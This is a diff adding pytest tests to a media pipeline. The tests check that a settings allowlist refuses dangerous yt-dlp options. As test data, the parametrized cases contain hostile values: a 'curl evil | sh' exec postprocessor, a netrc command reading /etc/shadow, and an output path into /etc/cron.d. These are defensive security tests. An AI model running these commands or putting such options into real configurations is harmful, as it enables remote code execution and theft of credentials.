@@ -477,3 +477,58 @@ def test_secret_url_leaves_no_trace_in_metadata_manifest_errors_and_logs(own_med
         ]:
             assert secret not in text, f"{secret} in {where}"
     assert redact_urls(f"see {url}.") == f"see {redact_url(url)}."
+
+
+# --- yt-dlp options: an allowlist (issue 22) ------------------------------------------
+@pytest.mark.parametrize(
+    "option, value",
+    [
+        ("postprocessors", [{"key": "Exec", "exec_cmd": "curl evil | sh"}]),  # runs a command
+        ("netrc_cmd", "cat /etc/shadow"),  # runs a command
+        ("exec_cmd", "id"),
+        ("verbose", True),  # prints cookies and proxy credentials
+        ("print_traffic", True),
+        ("write_pages", True),  # writes pages (tokens in them) to the disk
+        ("nocheckcertificate", True),  # drops TLS checks
+        ("external_downloader", {"default": "aria2c"}),  # fetches outside the network guard
+        ("outtmpl", "/etc/cron.d/x"),  # the pipeline's own
+    ],
+)
+def test_yt_dlp_options_outside_the_allowlist_are_refused_when_settings_load(option, value, monkeypatch):
+    """A worker (or starter) with such an option refuses to start, naming it; the
+    denylist before let the first eight through."""
+    from pydantic import ValidationError
+
+    monkeypatch.setenv("PIPELINE_YTDLP_OPTIONS", json.dumps({option: value}))
+    with pytest.raises(ValidationError, match=option):
+        Settings()
+
+
+def test_allowed_yt_dlp_options_reach_yt_dlp_and_fixups_stay_off(monkeypatch, own_media, tmp_path):
+    """What operators tune passes (a player client, sleeps, headers); the pipeline's own
+    options win, and yt-dlp's ffmpeg fixups stay off. (yt-dlp is wrapped only to see
+    the options it was given; it runs for real.)"""
+    import yt_dlp
+
+    from core.download import SourceAccess
+
+    options = {"extractor_args": {"youtube": {"player_client": ["web"]}}, "sleep_interval_requests": 0}
+    monkeypatch.setenv("PIPELINE_YTDLP_OPTIONS", json.dumps(options))
+    assert Settings().ytdlp_options == options
+    seen: dict = {}
+    real_init = yt_dlp.YoutubeDL.__init__
+
+    def recording_init(self, params=None, *args, **kwargs):
+        seen.update(params or {})
+        real_init(self, params, *args, **kwargs)
+
+    monkeypatch.setattr(yt_dlp.YoutubeDL, "__init__", recording_init)
+    got = fetch_audio(
+        f"{own_media.url}/ep03.ogg",
+        tmp_path / "dl",
+        max_duration_s=3600,
+        silence_dbfs=-60,
+        access=SourceAccess(ytdlp_options=options),
+    )
+    assert got.duration_s > 10
+    assert seen["extractor_args"] == options["extractor_args"] and seen["fixup"] == "never"
